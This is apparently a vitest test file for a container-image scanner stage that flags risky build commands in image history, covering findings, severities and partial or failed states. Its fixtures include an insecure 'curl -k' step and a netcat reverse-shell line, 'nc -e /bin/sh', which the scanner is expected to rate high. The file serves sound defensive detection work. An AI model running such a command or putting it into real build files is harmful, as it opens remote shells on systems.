import { expect, test } from 'vitest';
import { squash } from '../../../layers/index.ts';
import { arrangeStages } from '../index.ts';
import { judgeImage } from '../judge-image.ts';
import type { ViewedConfig } from '../port/image-view.ts';
import { viewImage } from '../view-image.ts';
import { openBuildCommands } from './stage.ts';

const LAYERS = ['base', 'top'].map((digest) => ({ digest, mediaType: 'tar', size: 1, isRead: true }));
const step = (createdBy: string, emptyLayer = false) => ({
  created: '',
  author: '',
  comment: '',
  createdBy,
  emptyLayer,
});

function aConfig(part: Partial<ViewedConfig>): ViewedConfig {
  const document = { os: 'linux', config: { User: 'app' } };
  return { document, history: [step('COPY a /'), step('RUN /bin/sh -c curl -k x # buildkit')], problems: [], ...part };
}

async function judge(config: ViewedConfig | null, problem: string | null = null) {
  const view = viewImage(LAYERS, squash([]), config, problem);
  const judged = await judgeImage(arrangeStages([openBuildCommands()]), view, () => 1);
  const stage = judged.get('build-commands');
  if (!stage) throw new Error('the stage was not judged');
  return stage;
}

test('what the rules find is given by rule, with the layer that the instruction made', async () => {
  const { result, findings } = await judge(aConfig({}));
  expect(findings).toEqual([
    { ruleId: 'curl-insecure', risks: [{ index: 1, text: 'RUN curl -k x', cut: false, layer: 'top' }] },
  ]);
  expect(result).toMatchObject({ state: 'ok', reason: null, counts: { found: 1 }, severity: 'medium' });
});

test('an image of which nothing is known says so, and one that found nothing has no severity', async () => {
  const { result } = await judge(null);
  expect(result).toMatchObject({ state: 'partial', reason: 'the image has no config that tells how it was built' });
  const nothing = await judge(aConfig({ history: [step('COPY a /'), step('RUN make')] }));
  expect(nothing.result).toMatchObject({ state: 'ok', counts: { found: 0 }, severity: null });
});

test('what was cut from the config makes the stage partial', async () => {
  const { result } = await judge(aConfig({ problems: [{ path: 'config.Env', reason: 'is not a list' }] }));
  expect(result).toMatchObject({ state: 'partial', reason: 'config.Env is not a list' });
});

test('a config that could not be read makes the stage fail with the code of the contract', async () => {
  const { result, findings } = await judge(null, 'the image config is not JSON');
  expect(result).toMatchObject({
    state: 'failed',
    failedCode: 'failed_to_check_build_cmd',
    reason: 'the image config is not JSON',
  });
  expect(findings).toBeNull();
});

test('a critical finding is the worst that a stage can say', async () => {
  const history = [step('COPY a /'), step('RUN nc -e /bin/sh x 1')];
  expect((await judge(aConfig({ history }))).result.severity).toBe('high');
});

test('the version changes with the rules', () => {
  expect(openBuildCommands().version()).toMatch(/^2 [0-9a-f]{12}$/);
});

test('members of the config that have not the shape they should have are left out', async () => {
  const document = {
    os: 7,
    config: { User: 'app', Env: 'A=b', Labels: [], OnBuild: [1], Healthcheck: 'x', Volumes: null },
  };
  expect((await judge(aConfig({ document }))).result.state).toBe('ok');
});
